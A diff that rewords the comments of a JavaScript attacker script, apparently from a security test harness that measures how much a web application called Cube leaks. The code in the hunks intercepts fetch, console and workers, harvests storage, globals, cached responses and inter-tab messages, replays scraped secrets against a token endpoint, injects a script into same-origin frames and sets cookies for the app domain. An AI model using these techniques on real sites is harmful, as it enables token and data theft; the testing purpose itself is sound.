@@ -1,10 +1,10 @@
 /* global NAMES, lib */
 /**
- * The attacker's script, in the page of the application or in one of his own. What he finds goes to his server: whatever
- * looks like a token, and whatever looks like rows of Cube's.
+ * The attacker's script, in the page of the application or in the attacker's own. It sends its findings to the attacker's
+ * server: anything that looks like a token, or like rows of Cube.
  */
 
-/** What was there before anybody had changed it. */
+/** The original built-ins. */
 const native = { fetch: window.fetch, Worker: window.Worker, Promise, setTimeout: window.setTimeout };
 const { apply } = Reflect;
 const { then } = Promise.prototype;
@@ -26,7 +26,7 @@ const pending = [];
 let busy = false;
 let budget = 0;
 
-/** Whatever it is, as text. */
+/** Any value as text. */
 function text(value, depth = 0) {
   if (typeof value === "string") return value;
   if (typeof value !== "object" || value === null || depth > 7 || budget-- < 0) return String(value);
@@ -49,7 +49,7 @@ function text(value, depth = 0) {
   }
 }
 
-/** Looks at values, and sends home what is worth it: once. */
+/** Searches values, and sends each finding home once. */
 function see(values, wanted = [TOKENS, ROWS]) {
   if (busy) return;
   busy = true;
@@ -72,7 +72,7 @@ function see(values, wanted = [TOKENS, ROWS]) {
   }
 }
 
-/** Replaces a function by one that shows what goes in and what comes out. */
+/** Replaces a function by one that exposes its arguments and results. */
 function tap(target, name) {
   const original = target?.[name];
   if (typeof original !== "function") return;
@@ -156,7 +156,7 @@ function hook() {
   }
 }
 
-/** A worker with the application's script, on a fetch of the attacker's. */
+/** A worker with the application's script and the attacker's fetch. */
 class ForgedWorker extends native.Worker {
   constructor(url, options) {
     const source = `
@@ -176,7 +176,7 @@ class ForgedWorker extends native.Worker {
   }
 }
 
-/** Asks a worker of the application's for rows, as its page does. */
+/** Asks the application's worker for rows, as its page does. */
 function askWorker(worker, wanted) {
   const { port1, port2 } = new MessageChannel();
   return new native.Promise((resolve) => {
@@ -202,20 +202,20 @@ const done = (request) =>
     request.onupgradeneeded = () => request.transaction.abort();
   });
 
-/** To what the application's tabs tell one another. */
+/** Listens to the messages between the application's tabs. */
 function listen() {
   for (const name of CHANNELS) new BroadcastChannel(name).onmessage = ({ data }) => see([data]);
   addEventListener("storage", ({ newValue }) => see([newValue]));
 }
 
 const attacker = {
-  /** Until all that was found is at his server. */
+  /** Waits until all findings have reached the attacker's server. */
   async flush() {
     await later(0);
     for (let n = 0; n < pending.length; n++) await pending[n].catch(() => {});
   },
 
-  /** Every storage, and all that lies about in the page. */
+  /** Reads every storage, and everything reachable in the page. */
   async read() {
     listen();
     const safely = async (get) => see([await get()]);
@@ -242,7 +242,7 @@ const attacker = {
         }
       },
       () => performance.getEntries().map((entry) => entry.toJSON()),
-      // What the application has left where every script can reach it.
+      // The application's globals.
       () => {
         const visited = new Set();
         const walk = (value, depth) => {
@@ -264,12 +264,12 @@ const attacker = {
 
   hook,
 
-  /** Forgets what it has sent home: another attack is to be measured. */
+  /** Forgets the findings, before another attack is measured. */
   reset() {
     for (const found of Object.keys(sent)) delete sent[found];
   },
 
-  /** Uses what the application uses, and takes the rows alone. */
+  /** Uses the application's own code, and takes only the rows. */
   async proxy() {
     const original = window.fetch;
     attacker.stop = () => {
@@ -285,7 +285,7 @@ const attacker = {
     if ((await original("/cube-worker.js")).ok) await askWorker(new Worker("/cube-worker.js"), [ROWS]);
   },
 
-  /** Asks the endpoint, or the page around, for a token of his own, with all that he finds in the scripts. */
+  /** Asks the endpoint or the page around for a new token, with every secret found in the scripts. */
   async ask() {
     const sources = await Promise.all(
       ["/app.js", `/app.js${location.search}`, "/cube-worker.js"].map((path) =>
@@ -297,7 +297,7 @@ const attacker = {
     );
     for (const secret of ["", ...secrets]) {
       const headers = { "X-App-Secret": secret, "X-Requested-With": "XMLHttpRequest" };
-      // What he gets is not to be found in the cache by another attack.
+      // Another attack must not find this answer in the cache.
       see([
         await native.fetch
           .call(window, "/token", { headers, cache: "no-store" })
@@ -317,7 +317,7 @@ const attacker = {
     await attacker.flush();
   },
 
-  /** What the HTTP cache has of the endpoint. The server answers nothing to these, so that whatever comes is of the cache. */
+  /** Reads the endpoint's answers from the HTTP cache. The server does not answer these requests, so every answer is cached. */
   async cache() {
     const headers = { "X-Cache-Only": "1" };
     for (const init of [{ cache: "only-if-cached", mode: "same-origin" }, { cache: "force-cache" }]) {
@@ -335,7 +335,7 @@ const attacker = {
     await attacker.flush();
   },
 
-  /** What an error tracker sees: the console, errors, and the addresses of requests. */
+  /** What an error tracker sees: the console, errors, and the URLs of requests. */
   track() {
     for (const name of ["log", "debug", "info", "warn", "error"]) tap(console, name);
     addEventListener("error", ({ message, error }) => see([message, error]));
@@ -357,7 +357,7 @@ const attacker = {
     });
   },
 
-  /** A window of the same origin: the script goes there too. */
+  /** A window of the same origin: the script is added there too. */
   async enter(target) {
     const script = target.document.createElement("script");
     script.src = "/attacker.js";
@@ -382,7 +382,7 @@ const attacker = {
     await attacker.enter(frame.contentWindow);
   },
 
-  /** As another origin does to a window that it has a handle on. */
+  /** What another origin can do to a window with its handle. */
   async outside(target) {
     addEventListener("message", ({ data, ports }) => {
       see([data]);
@@ -399,7 +399,7 @@ const attacker = {
       try {
         see([get()]);
       } catch {
-        // That is what an origin is for.
+        // As the same-origin policy requires.
       }
     }
     const ask = { cubeToken: "ask", id: 1, origin: NAMES.app };
@@ -417,7 +417,7 @@ const attacker = {
     await attacker.read();
   },
 
-  /** The application, or the page around it, in a frame of the attacker's. */
+  /** The application, or the page around it, in the attacker's frame. */
   async around(way, ...names) {
     for (const name of names) {
       const frame = document.createElement("iframe");
@@ -455,14 +455,14 @@ const attacker = {
         try {
           see([element.contentDocument?.body.textContent]);
         } catch {
-          // Another origin's.
+          // A frame of another origin.
         }
       }
     }
     await attacker.flush();
   },
 
-  /** Has this package write its own record, for the application's domain. */
+  /** Lets this package write its own record, for the application's domain. */
   async toss(way, key) {
     const { get, set } = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
     const domain = new URL(NAMES.app).hostname;
